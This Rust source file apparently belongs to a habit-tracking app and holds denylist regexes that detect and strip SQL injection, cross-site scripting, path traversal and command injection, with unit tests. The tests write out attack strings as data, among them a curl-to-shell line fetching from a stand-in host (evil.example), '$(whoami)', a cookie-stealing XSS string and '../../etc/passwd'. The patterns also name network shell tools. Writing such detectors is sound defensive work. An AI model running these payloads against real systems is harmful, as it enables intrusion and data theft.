//! Attack-pattern families used by the integrity scan and input sanitizer.
//!
//! The sets are a denylist: they cannot recognise novel encodings and are a
//! first line of defence only. Queries must still be parameterised and output
//! encoded by the data layer.

use std::borrow::Cow;
use std::sync::OnceLock;

use regex::Regex;
use serde::Serialize;

/// The family a matched payload belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
pub enum ThreatKind {
    SqlInjection,
    Xss,
    PathTraversal,
    CommandInjection,
}

impl ThreatKind {
    /// Evaluation order for detection and stripping.
    pub const ALL: [ThreatKind; 4] = [
        ThreatKind::SqlInjection,
        ThreatKind::Xss,
        ThreatKind::PathTraversal,
        ThreatKind::CommandInjection,
    ];

    pub fn code(&self) -> &'static str {
        match self {
            ThreatKind::SqlInjection => "SQL_INJECTION",
            ThreatKind::Xss => "XSS",
            ThreatKind::PathTraversal => "PATH_TRAVERSAL",
            ThreatKind::CommandInjection => "COMMAND_INJECTION",
        }
    }

    pub fn label(&self) -> &'static str {
        match self {
            ThreatKind::SqlInjection => "SQL injection",
            ThreatKind::Xss => "cross-site scripting",
            ThreatKind::PathTraversal => "path traversal",
            ThreatKind::CommandInjection => "command injection",
        }
    }

    fn patterns(&self) -> &'static [Regex] {
        match self {
            ThreatKind::SqlInjection => sql_patterns(),
            ThreatKind::Xss => xss_patterns(),
            ThreatKind::PathTraversal => traversal_patterns(),
            ThreatKind::CommandInjection => command_patterns(),
        }
    }
}

static SQL_PATTERNS: OnceLock<Vec<Regex>> = OnceLock::new();
static XSS_PATTERNS: OnceLock<Vec<Regex>> = OnceLock::new();
static TRAVERSAL_PATTERNS: OnceLock<Vec<Regex>> = OnceLock::new();
static COMMAND_PATTERNS: OnceLock<Vec<Regex>> = OnceLock::new();

fn compile(patterns: &[&str]) -> Vec<Regex> {
    patterns
        .iter()
        .map(|p| Regex::new(p).unwrap_or_else(|e| panic!("invalid built-in pattern {p}: {e}")))
        .collect()
}

fn sql_patterns() -> &'static [Regex] {
    SQL_PATTERNS.get_or_init(|| {
        compile(&[
            r"(?i)\bunion\s+(?:all\s+)?select\b",
            r"(?i)\bselect\s+\*\s+from\b",
            r"(?i)\bselect\b[^;]*\bfrom\b[^;]*\bwhere\b",
            r"(?i)\b(?:drop|truncate|alter)\s+(?:table|database|schema)\b",
            r"(?i)\binsert\s+into\s+\w+\s*(?:\(|values\b)",
            r"(?i)\bdelete\s+from\s+\w+",
            r"(?i)'\s*(?:or|and)\s+'?\d+'?\s*=\s*'?\d+",
            r"(?i)'\s*(?:or|and)\s+'[^']*'\s*=\s*'",
            r"(?i);\s*(?:drop|delete|update|insert|exec|shutdown)\b",
            r"(?i)\bexec(?:ute)?\s*\(|\bxp_cmdshell\b",
            r"'\s*(?:--|#|/\*)",
            r"(?i)\b(?:sleep|benchmark|pg_sleep)\s*\(\s*\d+|\bwaitfor\s+delay\b",
        ])
    })
}

fn xss_patterns() -> &'static [Regex] {
    XSS_PATTERNS.get_or_init(|| {
        compile(&[
            r"(?is)<\s*script\b[^>]*>.*?<\s*/\s*script\s*>",
            r"(?i)<\s*/?\s*script\b[^>]*>?",
            r"(?i)<\s*/?\s*(?:iframe|object|embed|applet|frame|frameset|base)\b[^>]*>?",
            r"(?i)\b(?:java|vb)script\s*:",
            r"(?i)\bon(?:load|error|click|dblclick|mouseover|mouseout|mouseenter|focus|blur|submit|change|input|keydown|keyup|keypress|animationstart|toggle|pointerdown)\s*=",
            r"(?i)data\s*:\s*text/html",
        ])
    })
}

fn traversal_patterns() -> &'static [Regex] {
    TRAVERSAL_PATTERNS.get_or_init(|| {
        compile(&[
            r"\.\.[/\\]",
            r"[/\\]\.\.(?:[/\\]|$)",
            r"(?i)%2e%2e(?:%2f|%5c|/|\\)|\.\.%(?:2f|5c)",
            r"(?i)%25(?:2e|2f|5c)",
            r"(?i)(?:^|[/\\])(?:etc[/\\](?:passwd|shadow|hosts)|proc[/\\]self[/\\]|windows[/\\](?:system32|win\.ini))",
            r"\x00|%00",
        ])
    })
}

fn command_patterns() -> &'static [Regex] {
    COMMAND_PATTERNS.get_or_init(|| {
        compile(&[
            r"(?i)(?:;|\|\|?|&&)\s*(?:(?:wget|curl|bash|zsh|sh|nc|ncat|netcat|python[0-9.]*|perl|php|chmod|chown|whoami|uname|nslookup|powershell|cmd)\b|(?:cat|ls|rm)\s+[-/])",
            r"\$\([^)]*\)",
            r"(?i)`[^`]*\b(?:rm|cat|ls|wget|curl|bash|sh|nc|whoami|uname|id)\b[^`]*`",
            r"(?i)/bin/(?:ba|z|k)?sh\b|\bcmd\.exe\b|\bpowershell\.exe\b",
            r"\$\{IFS\}",
        ])
    })
}

/// First family with a pattern matching `text`.
pub fn detect(text: &str) -> Option<ThreatKind> {
    ThreatKind::ALL
        .into_iter()
        .find(|kind| kind.patterns().iter().any(|re| re.is_match(text)))
}

/// Remove every dangerous substring, reporting the first family that matched.
pub fn strip(text: &str) -> (String, Option<ThreatKind>) {
    let mut out = text.to_string();
    let mut first = None;
    for kind in ThreatKind::ALL {
        for re in kind.patterns() {
            let replaced = match re.replace_all(&out, "") {
                Cow::Owned(s) => Some(s),
                Cow::Borrowed(_) => None,
            };
            if let Some(s) = replaced {
                first.get_or_insert(kind);
                out = s;
            }
        }
    }
    (out, first)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_builtin_patterns_compile() {
        for kind in ThreatKind::ALL {
            assert!(!kind.patterns().is_empty());
        }
    }

    #[test]
    fn test_detects_each_family() {
        let cases = [
            ("1' OR '1'='1", ThreatKind::SqlInjection),
            ("x'; DROP TABLE users; --", ThreatKind::SqlInjection),
            ("0 UNION SELECT password FROM users", ThreatKind::SqlInjection),
            ("<script>alert(1)</script>", ThreatKind::Xss),
            ("<img src=x onerror=alert(1)>", ThreatKind::Xss),
            ("javascript:alert(document.cookie)", ThreatKind::Xss),
            ("../../etc/passwd", ThreatKind::PathTraversal),
            ("..%2f..%2fboot.ini", ThreatKind::PathTraversal),
            ("file\u{0}.png", ThreatKind::PathTraversal),
            ("hello; curl http://evil.example/x | sh", ThreatKind::CommandInjection),
            ("$(whoami)", ThreatKind::CommandInjection),
            ("`cat secrets`", ThreatKind::CommandInjection),
        ];
        for (input, expected) in cases {
            assert_eq!(detect(input), Some(expected), "input: {input}");
        }
    }

    #[test]
    fn test_ordinary_habit_text_is_clean() {
        let clean = [
            "Drink 8 glasses of water",
            "Read for 30 minutes before bed",
            "Feed the dog & cat",
            "Select a book from the shelf",
            "Meditate -- 10 min",
            "Run 5km (outdoors)",
            "Update my journal",
            "https://habitflow.app/habits/12",
            "Don't skip leg day",
        ];
        for input in clean {
            assert_eq!(detect(input), None, "false positive on: {input}");
        }
    }

    #[test]
    fn test_strip_removes_payload() {
        let (out, kind) = strip("Walk <script>alert(1)</script>daily");
        assert_eq!(out, "Walk daily");
        assert_eq!(kind, Some(ThreatKind::Xss));

        let (out, kind) = strip("Plain text");
        assert_eq!(out, "Plain text");
        assert_eq!(kind, None);
    }
}
